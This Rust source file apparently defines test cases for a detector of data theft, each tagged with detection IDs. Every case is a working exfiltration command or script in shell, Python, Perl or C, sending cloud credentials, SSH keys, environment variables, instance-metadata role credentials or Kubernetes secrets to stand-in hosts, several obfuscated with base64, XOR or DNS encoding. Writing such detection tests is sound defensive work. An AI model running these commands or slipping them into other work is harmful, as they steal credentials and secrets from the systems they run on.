use super::{bash, c, perl, python, sh};
use crate::case::Case;
use crate::tools::Tool;

const GROUP: &str = "theft";

pub(super) fn cases() -> Vec<Case> {
    vec![
        sh(GROUP, "secrets in base64, shell", &["D-EXF-CANARY"], "cat $HOME/.aws/credentials | base64 | nc -w 2 203.0.113.7 8080"),
        python(
            GROUP,
            "secrets over TLS, python",
            &["D-EXF-CANARY"],
            "import os, ssl, urllib.request\nd = open(os.path.expanduser('~/.docker/config.json'), 'rb').read()\nprint(urllib.request.urlopen('https://drop.example/u', d, context=ssl._create_unverified_context(), timeout=5).status)\n",
        ),
        sh(GROUP, "environment as it is, wget", &["D-EXF-CANARY"], "env > /tmp/e; wget -q -O /dev/null --post-file=/tmp/e http://198.51.100.80/c"),
        sh(GROUP, "environment in hexadecimal digits, shell", &["D-EXF-CANARY"], "env | od -An -tx1 -v | tr -d ' \\n' | nc -w 2 192.0.2.81 443"),
        python(
            GROUP,
            "environment compressed, python",
            &["D-EXF-CANARY"],
            "import gzip, os, urllib.request\nd = gzip.compress('\\n'.join('%s=%s' % p for p in os.environ.items()).encode())\nurllib.request.urlopen('http://203.0.113.82/gz', d, timeout=5)\n",
        ),
        python(
            GROUP,
            "environment backwards, python",
            &["D-EXF-CANARY"],
            "import os, socket\ns = socket.create_connection(('192.0.2.83', 5000))\ns.sendall(repr(dict(os.environ))[::-1].encode())\ns.close()\n",
        ),
        perl(
            GROUP,
            "environment under exclusive or, perl",
            &["D-EXF-CANARY"],
            r#"use IO::Socket::INET; my $d = join("\n", map { "$_=$ENV{$_}" } keys %ENV); $d = join('', map { chr(ord($_) ^ 0x5a) } split(//, $d)); my $s = IO::Socket::INET->new('203.0.113.84:9000'); print $s $d; $s->flush; sleep 1; close $s;"#,
        ),
        python(
            GROUP,
            "environment percent-encoded, python",
            &["D-EXF-CANARY"],
            "import os, urllib.parse, urllib.request\nq = ''.join('%%%02x' % b for b in os.environ['GITHUB_TOKEN'].encode())\nurllib.request.urlopen('http://p.example/i?t=' + q, timeout=5)\n",
        ),
        bash(
            GROUP,
            "environment in base64, bash",
            &["D-EXF-CANARY"],
            "exec 4<>/dev/tcp/198.51.100.85/8000; printf 'POST / HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 9999\\r\\n\\r\\n%s' \"$(env | base64 -w0)\" >&4; sleep 1",
        ),
        sh(GROUP, "archive of private directories, tar", &["D-EXF-BULK", "D-EXF-CANARY"], "tar czf /tmp/a.tgz /root /etc 2>/dev/null; nc -w 3 203.0.113.86 2222 < /tmp/a.tgz"),
        python(
            GROUP,
            "archive of private directories, python",
            &["D-EXF-CANARY", "D-EXF-BULK"],
            "import io, os, tarfile, urllib.request\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode='w')\nt.add(os.path.expanduser('~/.aws'))\nt.add(os.path.expanduser('~/.ssh'))\nt.close()\nurllib.request.urlopen('http://192.0.2.87/t', b.getvalue(), timeout=5)\n",
        ),
        sh(
            GROUP,
            "secrets in names, shell",
            &["D-EXF-DNS"],
            "for l in $(cat $HOME/.npmrc | tr -d '\\n' | od -An -tx1 -v | tr -d ' \\n' | fold -w 56 2>/dev/null); do nslookup $l.x.example >/dev/null 2>&1; done",
        ),
        python(
            GROUP,
            "secrets in names, python",
            &["D-EXF-DNS"],
            "import base64, os, socket\nt = base64.b32encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode().strip('=').lower()\nname = '.'.join(t[i:i + 50] for i in range(0, len(t), 50)) + '.q.invalid'\ntry: socket.gethostbyname(name)\nexcept OSError as e: print(e)\n",
        ),
        python(
            GROUP,
            "role of the machine taken and used, python",
            &["D-CRE-CANARYUSE", "D-EXF-CANARY"],
            "import json, urllib.request\nu = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\nr = urllib.request.urlopen(u, timeout=5).read().decode().split()[0]\nc = json.loads(urllib.request.urlopen(u + r, timeout=5).read())\n\
             q = urllib.request.Request('http://sts.amazonaws.com/?Action=GetCallerIdentity', headers={'Authorization': 'AWS4-HMAC-SHA256 Credential=%s/20260101/us-east-1/sts/aws4_request' % c['AccessKeyId'], 'X-Amz-Security-Token': c['Token']})\nprint(urllib.request.urlopen(q, timeout=5).status)\n",
        ),
        sh(
            GROUP,
            "role of the machine taken and sent, curl",
            &["D-CRE-CANARYUSE", "D-EXF-CANARY"],
            "T=$(curl -s -m 5 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token); R=$(curl -s -m 5 -H \"X-aws-ec2-metadata-token: $T\" http://169.254.169.254/latest/meta-data/iam/security-credentials/); \
             curl -s -m 5 -H \"X-aws-ec2-metadata-token: $T\" http://169.254.169.254/latest/meta-data/iam/security-credentials/$R | curl -s -m 5 -d @- http://203.0.113.88/k",
        )
        .with(&[Tool::Curl]),
        sh(
            GROUP,
            "secrets of the cluster, curl",
            &["D-CRE-CANARYUSE"],
            "curl -sk -m 5 -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://10.96.0.1/api/v1/namespaces/kube-system/secrets",
        )
        .with(&[Tool::Curl]),
        python(
            GROUP,
            "secrets of the cluster, python",
            &["D-CRE-CANARYUSE"],
            "import os, ssl, urllib.request\nt = open('/run/secrets/kubernetes.io/serviceaccount/token').read()\nq = urllib.request.Request('https://%s:%s/api/v1/secrets' % (os.environ['KUBERNETES_SERVICE_HOST'], os.environ['KUBERNETES_SERVICE_PORT']), headers={'Authorization': 'Bearer ' + t})\nprint(urllib.request.urlopen(q, context=ssl._create_unverified_context(), timeout=5).read()[:80])\n",
        ),
        sh(
            GROUP,
            "hunts for secrets, shell",
            &["D-CRE-HUNT", "D-CRE-CANARYREAD"],
            "for f in $HOME/.aws/credentials $HOME/.ssh/id_ed25519 $HOME/.docker/config.json $HOME/.kube/config $HOME/.npmrc $HOME/.git-credentials; do cat $f > /dev/null; done; wget -q -O /dev/null http://203.0.113.89/done",
        ),
        c(
            GROUP,
            "hunts for secrets, c",
            &["D-CRE-HUNT", "D-CRE-CANARYREAD"],
            r#"int main() { const char *p[] = {"/root/.aws/credentials", "/root/.ssh/id_ed25519", "/root/.docker/config.json", "/root/.kube/config", "/root/.pgpass", "/root/.git-credentials", 0}; char b[4096]; int s = dial("192.0.2.90", 8081);
               for (int i = 0; p[i]; i++) { int f = open(p[i], O_RDONLY); int n = read(f, b, sizeof b); for (int k = 0; k < n; k++) b[k] = (b[k] + i + k * 7) ^ (k * 31 + 17); write(s, b, n > 0 ? n : 0); close(f); } sleep(1); return 0; }"#,
        ),
        sh(GROUP, "environment of others, shell", &["D-CRE-PROCENV"], "for i in 1 2 3 4 5 6; do sleep 30 & done; sleep 1; for p in /proc/[0-9]*; do cat $p/environ > /dev/null 2>&1; done; wget -qO /dev/null http://203.0.113.91/").suspicious(),
        python(
            GROUP,
            "environment of others, python",
            &["D-CRE-PROCENV"],
            "import glob, os, subprocess, time\nkids = [subprocess.Popen(['sleep', '60']) for _ in range(6)]\ntime.sleep(0.5)\nfor p in glob.glob('/proc/[0-9]*/environ'):\n    try: open(p, 'rb').read()\n    except OSError: pass\n",
        )
        .suspicious(),
    ]
}
